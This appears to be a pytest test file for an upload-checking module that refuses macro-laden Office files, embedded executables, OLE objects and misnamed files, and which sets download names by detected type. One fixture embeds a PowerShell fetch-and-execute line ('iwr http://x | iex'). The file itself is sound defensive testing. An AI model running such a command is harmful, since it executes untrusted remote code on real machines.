import re

import pytest

from evidence.sniff import (
    DangerousContent,
    DisallowedType,
    MisnamedFile,
    check_allowed,
    check_container,
    check_upload,
    download_name,
)
from tests import sample_files


@pytest.mark.parametrize(
    ("maker", "media_type"),
    [
        (sample_files.pdf, "application/pdf"),
        (
            sample_files.docx,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (sample_files.csv, "text/csv"),
        (sample_files.text, "text/plain"),
        (sample_files.email, "message/rfc822"),
    ],
)
def test_accepted_formats_are_recognised_from_content(tmp_path, maker, media_type):
    path = tmp_path / "upload.bin"  # the name says nothing: only the bytes count
    path.write_bytes(maker())
    assert check_allowed(path) == media_type


@pytest.mark.parametrize(
    "maker",
    [sample_files.html, sample_files.svg, sample_files.zip_archive, sample_files.executable],
)
def test_active_or_opaque_content_is_refused(tmp_path, maker):
    path = tmp_path / "report.pdf"  # a lying extension does not help
    path.write_bytes(maker())
    with pytest.raises(DisallowedType, match="not an accepted evidence format"):
        check_allowed(path)


# --- Office containers carrying code (issue 12, item 3) ----------------------------------------

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def upload_at(tmp_path, data: bytes):
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("maker", "name", "media_type"),
    [
        (sample_files.xlsx, "register.xlsx", XLSX),
        (sample_files.odt, "minutes.odt", "application/vnd.oasis.opendocument.text"),
        (sample_files.xls, "register.xls", "application/vnd.ms-excel"),
        (sample_files.doc, "policy.doc", "application/msword"),
        # a chart's data kept inside a Word file is a workbook, inspected and clean
        (
            lambda: sample_files.docx_with_embedded_workbook(sample_files.xlsx()),
            "report.docx",
            DOCX,
        ),
    ],
)
def test_clean_office_files_are_accepted(tmp_path, maker, name, media_type):
    assert check_upload(upload_at(tmp_path, maker()), name) == media_type


def macro_workbook() -> bytes:
    return sample_files._rezip(
        sample_files.xlsx(), add={"xl/vbaProject.bin": sample_files.ole2({"VBA/dir": b"x"})}
    )


@pytest.mark.parametrize(
    ("maker", "name", "kind", "where"),
    [
        # stored as a Word document before: libmagic sees a docx
        (sample_files.docm, "certificate.docm", "macros", "macroEnabled"),
        (sample_files.docm, "certificate.docx", "macros", "macroEnabled"),
        (macro_workbook, "register.xlsx", "macros", "xl/vbaProject.bin"),
        (
            lambda: sample_files.xlsx_with_embedded("Package1.bin", sample_files.windows_program()),
            "register.xlsx",
            "executable",
            "xl/embeddings/Package1.bin",
        ),
        (
            lambda: sample_files.xlsx_with_embedded("payload.exe", b"not even a program"),
            "register.xlsx",
            "executable",
            "xl/embeddings/payload.exe",
        ),
        (
            lambda: sample_files.xlsx_with_embedded("run.ps1", b"iwr http://x | iex"),
            "register.xlsx",
            "executable",
            "xl/embeddings/run.ps1",
        ),
        (
            lambda: sample_files.xlsx_with_embedded(
                "oleObject1.bin", sample_files.ole_package(sample_files.windows_program())
            ),
            "register.xlsx",
            "ole_object",
            "xl/embeddings/oleObject1.bin",
        ),
        (
            lambda: sample_files.docx_with_embedded_workbook(macro_workbook()),
            "report.docx",
            "macros",
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx/xl/vbaProject.bin",
        ),
        (lambda: sample_files.odt(basic_module=True), "minutes.odt", "macros", "Basic/Standard"),
        (lambda: sample_files.xls(macro_sheet=True), "register.xls", "macros", "Excel 4.0"),
        (
            lambda: sample_files.doc({"Macros/VBA/dir": b"x"}),
            "policy.doc",
            "macros",
            "Macros/VBA",
        ),
        (
            lambda: sample_files.doc({"ObjectPool/_1234/\x01Ole10Native": b"x"}),
            "policy.doc",
            "ole_object",
            "ObjectPool",
        ),
    ],
)
def test_office_files_carrying_code_are_refused(tmp_path, maker, name, kind, where):
    with pytest.raises(DangerousContent) as refused:
        check_upload(upload_at(tmp_path, maker()), name)
    assert refused.value.kind == kind and where in refused.value.where


def test_a_damaged_office_file_cannot_be_cleared(tmp_path):
    truncated = sample_files.xlsx()[:-40]  # the zip's directory cut off
    with pytest.raises(DangerousContent) as refused:
        check_container(upload_at(tmp_path, truncated), XLSX)
    assert refused.value.kind == "uninspectable"


def test_powerpoint_97_is_refused_as_uninspectable(tmp_path):
    path = upload_at(tmp_path, sample_files.ole2({"PowerPoint Document": b"\x00" * 8}))
    with pytest.raises(DangerousContent, match="cannot be checked"):
        check_container(path, "application/vnd.ms-powerpoint")


# --- Names that claim another type (issue 12, item 3) ------------------------------------------


@pytest.mark.parametrize(
    ("maker", "name", "message"),
    [
        (
            sample_files.jscript,
            "audit-report.pdf.js",
            "the name says JavaScript (.js) but the content is plain text",
        ),
        (
            sample_files.jscript,
            "audit-report.pdf",
            "the name says PDF document (.pdf) but the content is plain text",
        ),
        (
            sample_files.pdf_html_polyglot,
            "audit-report.html",
            "the name says HTML (.html) but the content is PDF document",
        ),
        (sample_files.text, "notes.VBS.", "the name says VBScript (.vbs)"),
        (sample_files.pdf, "report.docx", "the name says Word document (.docx)"),
        (sample_files.docx, "cert.pdf", "but the content is Word document"),
    ],
)
def test_a_name_claiming_another_type_is_refused(tmp_path, maker, name, message):
    with pytest.raises(MisnamedFile, match=re.escape(message)):
        check_upload(upload_at(tmp_path, maker()), name)


@pytest.mark.parametrize(
    ("maker", "name", "media_type"),
    [
        (sample_files.pdf_html_polyglot, "audit-report.pdf", "application/pdf"),
        (sample_files.text, "minutes", "text/plain"),  # no extension claims nothing
        (sample_files.text, "minutes.v2-final", "text/plain"),  # nor does an unknown one
        (sample_files.csv, "register.txt", "text/csv"),  # text wearing text's names
        (sample_files.pdf, "REPORT.PDF", "application/pdf"),
    ],
)
def test_names_that_agree_or_claim_nothing_are_accepted(tmp_path, maker, name, media_type):
    assert check_upload(upload_at(tmp_path, maker()), name) == media_type


@pytest.mark.parametrize(
    ("name", "media_type", "downloaded"),
    [
        ("dpia.pdf", "application/pdf", "dpia.pdf"),
        ("DPIA.PDF", "application/pdf", "DPIA.PDF"),
        ("minutes", "text/plain", "minutes.txt"),
        ("scan.jpeg", "image/jpeg", "scan.jpeg"),
        # names stored before names had to agree: the detected type's extension is added
        ("report.html", "application/pdf", "report.html.pdf"),
        ("audit-report.pdf.js", "text/plain", "audit-report.pdf.js.txt"),
        ("trailing.pdf. . ", "application/pdf", "trailing.pdf"),
        ("old.bin", "application/x-dosexec", "old.bin"),
        ("old.exe", "application/x-dosexec", "old.exe.bin"),
    ],
)
def test_the_download_name_ends_with_the_detected_types_extension(name, media_type, downloaded):
    assert download_name(name, media_type) == downloaded
